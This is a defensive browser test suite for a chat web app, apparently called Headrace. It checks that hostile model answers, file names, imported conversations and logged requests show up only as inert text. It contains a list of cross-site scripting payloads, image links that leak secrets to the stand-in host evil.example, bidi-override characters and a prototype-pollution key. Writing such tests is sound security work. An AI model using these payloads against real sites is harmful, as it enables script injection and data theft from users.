"""What a hostile model or a hostile file may not do to who reads its answers."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import pytest
from in_process import Running

pytestmark = pytest.mark.xdist_group("browser")

PAYLOADS = [
    "<script>document.title = 'owned'</script>",
    "<img src=x onerror=\"document.title='owned'\">",
    "<svg onload=\"document.title='owned'\"><animate onbegin=\"document.title='owned'\" dur=1s>",
    "<iframe srcdoc=\"<script>parent.document.title='owned'</script>\"></iframe>",
    "<style>* { display: none }</style><link rel=stylesheet href=https://evil.example/x.css>",
    "<form action=https://evil.example><input name=key><button>Send</button></form>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
    "onerror=document.title='owned'&gt;\">",
    "[a link](javascript:document.title='owned')",
    "[a link](  JaVaScRiPt&#58;document.title='owned')",
    "[a link](data:text/html,<script>document.title='owned'</script>)",
    "[a link](vbscript:x) <javascript:document.title='owned'>",
    "![picture](https://evil.example/?secret=all)",
    "![picture][1]\n\n[1]: https://evil.example/?secret=reference",
    "[![picture](//evil.example/?secret=nested)](https://good.example)",
    "`` `\"><img src=x onerror=document.title='owned'>` ``",
    "```\"><img src=x onerror=document.title='owned'>\n<b>code</b>\n```",
    "| <img src=x onerror=document.title='owned'> |\n|---|\n| <script>document.title='owned'</script> |",
    '[x](https://good.example "title\\" onmouseover=\\"document.title=\'owned\'")',
    '<a href="https://evil.example" ping="https://evil.example/ping">x</a>',
    '<base href=https://evil.example><meta http-equiv=refresh content="0;url=https://evil.example">',
]
ALLOWED = {"class", "href", "title", "target", "rel", "align", "type", "data-copy", "tabindex", "role"}
ALLOWED |= {"aria-label", "start", "disabled", "checked"}
INSIDE = """area => [...area.querySelectorAll('.prose *')].map(
  one => [one.tagName.toLowerCase(), one.getAttributeNames(), one.getAttribute('href') || ''])"""


def test_no_payload_becomes_an_element_or_a_request(scripted: Callable[..., Running], visit) -> None:
    server = scripted("\n\n".join(PAYLOADS))
    site = visit(server.url)
    page = site.open()
    answer = site.ask("Attack me")
    for tag, names, href in answer.evaluate(INSIDE):
        assert tag not in ("script", "img", "svg", "iframe", "style", "link", "form", "math", "base", "meta")
        assert set(names) <= ALLOWED, (tag, names)
        assert href == "" or href.startswith(("https://", "http://", "mailto:")), href
    for link in answer.locator("a").all():
        assert link.get_attribute("rel") == "noopener noreferrer nofollow"
    assert "<script>document.title = 'owned'</script>" in answer.inner_text(), "it is shown as text"
    page.wait_for_timeout(300)  # what was to run has had its time
    assert page.title() == "Chat · Headrace"
    assert site.foreign == []
    page.reload()
    page.locator(".conversations .title").first.click()
    page.locator("article.assistant").wait_for()
    assert page.title() == "Chat · Headrace"


def test_trusted_types_refuse_what_was_not_sanitized(scripted: Callable[..., Running], visit) -> None:
    site = visit(scripted().url)
    page = site.open()
    attempt = (
        "() => { try { document.body.innerHTML = '<b>x</b>'; return 'taken' } catch (e) { return e.name } }"
    )
    assert page.evaluate(attempt) == "TypeError"
    site.problems.clear()


def test_characters_that_turn_the_order_around_are_seen_in_code(
    scripted: Callable[..., Running], visit
) -> None:
    answer_text = "```python\naccess = 'user\u202e \u2066# check\u2069 \u2066'\n```"
    site = visit(scripted(answer_text).url)
    site.open()
    answer = site.ask("Review this")
    assert answer.locator(".hidden-character").all_inner_texts() == ["U+202E", "U+2066", "U+2069", "U+2066"]


def test_a_hostile_file_name_is_a_name(scripted: Callable[..., Running], visit, tmp_path: Path) -> None:
    site = visit(scripted("ok").url)
    page = site.open()
    name = '<img src=x onerror=document.title="owned">\u202etxt.exe'
    file = {"name": name, "mimeType": "text/plain", "buffer": b"text"}
    page.locator("form.composer input[type=file]").set_input_files([file])
    assert page.locator(".chips bdi").inner_text() == name
    site.ask("Read it")
    assert page.locator(".file bdi").inner_text() == name
    assert page.title() == "Chat · Headrace"


def test_markdown_bombs_and_long_lines_leave_the_page_alive(scripted: Callable[..., Running], visit) -> None:
    nested = "> " * 2000 + "deep\n\n" + "*" * 3000 + "\n\n" + "[" * 3000 + "\n\n" + "x" * 3000
    server = scripted("x")
    site = visit(server.url)
    page = site.open()
    exported = {
        "id": "ab" * 12,
        "title": "bomb",
        "leaf": "b",
        "nodes": {
            "a": {"role": "user", "content": "bomb", "parent": None, "created": 1},
            "b": {"role": "assistant", "content": nested, "parent": "a", "created": 2},
        },
    }
    data = json.dumps({"headrace_conversations": [exported]}).encode()
    file = {"name": "bomb.json", "mimeType": "application/json", "buffer": data}
    page.locator("input[type=file][accept]").set_input_files([file])
    page.locator("article.assistant", has_text="deep").wait_for()
    assert page.locator("article.assistant").evaluate("area => area.scrollWidth <= area.clientWidth + 1")
    assert site.ask("Still there?").inner_text()


def test_no_other_page_may_frame_it_or_post_to_it(scripted: Callable[..., Running], visit) -> None:
    server = scripted()
    reply = server.http().post(
        "/v1/chat/completions",
        json={"messages": [{"role": "user", "content": "x"}]},
        headers={"origin": "https://evil.example"},
    )
    assert reply.status_code == 403
    site = visit(server.url)
    site.page.set_content(f"<iframe src='{server.url}/'></iframe>")
    site.page.wait_for_timeout(500)
    (_, frame) = site.page.frames
    assert frame.url in ("chrome-error://chromewebdata/", "about:blank") or not frame.locator("#app").count()
    site.problems.clear()


def hostile_conversation(text: str) -> bytes:
    """An exported file with the text wherever one may stand."""
    tree = {"name": text, "measured_s": 0.1, "detail": {text: text, "list": [text], "map": {text: text}}}
    tree |= {"children": [{"name": text, "measured_s": 0.05, "detail": {"sql": text}}]}
    call = {"id": text, "name": text, "arguments": text}
    facts = {"model": text, "finish": text, "requestId": text, "warnings": [text]}
    answer = {"role": "assistant", "content": text, "reasoning": text, "calls": [call], "error": text}
    answer |= {"facts": facts, "explain": tree, "parent": "a", "created": 2, "beside": text}
    results = [{"id": text, "name": text, "content": text}]
    nodes = {
        "a": {"role": "user", "content": text, "created": 1, "files": [{"name": text, "text": text}]},
        "b": answer,
        "c": {"role": "tool", "content": "", "results": results, "parent": "b", "created": 3},
        "d": {**answer, "structured": True, "content": f'["{text}"]', "parent": "c", "created": 4},
        "__proto__": {"role": "user", "content": text},
    }
    options = {"system": text, "tools": text, "schema": text, "format": "schema", "temperature": text}
    conversation = {"id": "ab" * 12, "title": text, "model": text, "leaf": "d", "options": options}
    return json.dumps({"headrace_conversations": [{**conversation, "nodes": nodes}]}).encode()


@pytest.mark.parametrize(
    "payload", [PAYLOADS[1], "javascript:document.title='owned'", "\"'><svg/onload=alert(1)>"]
)
def test_a_hostile_conversation_is_text_everywhere(
    scripted: Callable[..., Running], visit, payload: str
) -> None:
    site = visit(scripted("ok").url)
    page = site.open()
    page.on("dialog", lambda dialog: site.problems.append(f"a dialog: {dialog.message}"))
    data = {"name": "x.json", "mimeType": "application/json", "buffer": hostile_conversation(payload)}
    page.locator("input[type=file][accept]").set_input_files([data])
    page.get_by_text("1 conversation imported.").wait_for()
    page.get_by_role("button", name="Options").click()
    for button in page.get_by_role("button", name="Explain").all():
        button.click()
    for summary in page.locator("summary").all():
        summary.click()
    page.locator("article.tool").wait_for()
    found = page.evaluate("document.querySelectorAll('main script, main img, main iframe, main a').length")
    assert found == 0
    assert page.locator("main svg:not(.icon)").count() == 0
    assert page.evaluate("({}).role") is None, "the prototype of objects is untouched"
    for scheme in ("waterfall", "tool"):
        assert payload in page.locator(f".{scheme}").first.inner_text()
    page.wait_for_timeout(300)
    assert page.title() == "Chat · Headrace"


def test_requests_of_strangers_are_text_in_the_log(
    scripted: Callable[..., Running], visit, tmp_path: Path
) -> None:
    server = scripted("ok", store=tmp_path / "store.sqlite3", log_requests=True, log_content=True)
    payload = "<img src=x onerror=\"document.title='owned'\">"
    body = {"model": payload, "messages": [{"role": "user", "content": payload}]}
    headers = {"traceparent": payload, "user-agent": payload, "x-request-id": "<svg/onload=alert(1)>"}
    http = server.http()
    assert http.post("/v1/chat/completions", json=body, headers=headers).status_code == 404
    assert http.get(f"/v1/requests/{payload}").status_code == 404
    kept = {"messages": [{"role": "user", "content": payload}], "max_tokens": 2}
    assert http.post("/v1/chat/completions", json=kept).status_code == 200
    site = visit(server.url)
    page = site.open("requests")
    rows = page.get_by_role("button", name="Explain the request")
    rows.first.wait_for()
    for place in range(rows.count()):
        rows.nth(place).click()
        page.get_by_role("region", name="Where the time went").wait_for()
    page.locator("summary", has_text="What was sent").last.click()
    assert page.locator("main img, main script").count() == 0
    page.wait_for_timeout(300)
    assert page.title() == "Requests · Headrace"
